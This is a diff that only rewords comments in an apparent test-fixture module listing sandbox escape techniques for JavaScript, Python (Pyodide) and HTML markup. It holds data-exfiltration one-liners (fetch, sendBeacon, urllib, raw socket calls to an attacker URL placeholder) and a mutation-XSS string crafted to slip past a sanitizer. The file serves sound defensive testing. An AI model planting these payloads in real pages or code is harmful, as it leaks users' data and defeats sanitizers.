@@ -1,9 +1,9 @@
-"""Every way out of a sandbox that we know of: for JavaScript, for Python, for markup.
+"""All known ways out of a sandbox: for JavaScript, for Python, for markup.
 
-`test_sandbox_walls.py` tries each of them twice, without walls and behind them.
+`test_sandbox_walls.py` tries each of them inside the sandbox and without it.
 """
 
-# Bodies of async functions; URL is the attacker's, over http. Each ends when it has failed or not.
+# Bodies of async functions; URL is the attacker's, over http. Each returns or throws when done.
 WAYS_OUT = {
     "fetch": "await fetch(URL)",
     "blind fetch": "await fetch(URL, {mode: 'no-cors', method: 'POST', body: 'x'})",
@@ -66,14 +66,14 @@ WAYS_OUT = {
       await new Promise((r, f) => { w.port.onmessage = r; w.onerror = f })""",
     "sendBeacon": "navigator.sendBeacon(URL, 'x')",
 }
-# What the attacker hears of them, where a mere connection would not be all.
+# The attacker's record of a success, for ways where a connection alone is no success.
 HEARD_AS = {
     "WebSocket": "message secret",
     "WebSocket with a protocol": "message secret",
     "socket of a worker inside": "message secret",
     "WebTransport": "udp",
 }
-# These are not there in a worker anyway, so the page is where they must be seen to work.
+# Workers do not have these APIs, so the control attempt without a sandbox runs in the page.
 ONLY_IN_PAGES = {"sendBeacon", "shared worker"}
 
 PYTHON_WAYS_OUT = {
@@ -106,7 +106,7 @@ PYTHON_WAYS_OUT = {
     "the interpreter's own loader": "import pyodide_js\n"
     "await pyodide_js._module.API.loadBinaryFile(URL, 'x')",
 }
-# No interpreter in a browser can do these, wall or no wall: they have nothing to prove.
+# No interpreter in a browser can do these, so they have no control attempt without a sandbox.
 PYTHON_NOT_EVEN_THEN = {
     "urllib": "from urllib.request import urlopen\nurlopen(URL, timeout=2)",
     "socket": "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=2).send(b'x')",
@@ -171,14 +171,14 @@ MARKUP_WAYS_OUT = {
 }
 
 
-# Only a second reading of what a cleaner wrote makes a link of it.
+# Only a second parse of a sanitizer's output makes a link of this markup.
 MARKUP_NOT_EVEN_THEN = {
     "hidden from one reading": "<form><math><mtext></form><form><mglyph><style></math>"
     "<svg width=99 height=99><a href=URL><rect id=press width=90 height=90 /></a></svg>",
 }
-# These take the page away, put another in front of it, or wait until nothing else is being loaded.
+# Tried alone: these replace or cover the page, or wait until no other load is in progress.
 MARKUP_ALONE = {"link to the top", "posting form", "prefetch"}
-# Browsers in which a way out is none, so that it has nothing to prove there.
+# Ways out that a browser does not have, so that they have no control attempt there.
 NOT_THERE = {
     ("firefox", "ping"): "Firefox ships with browser.send_pings off",
     ("chromium", "formula"): "Chromium has no links in formulas",
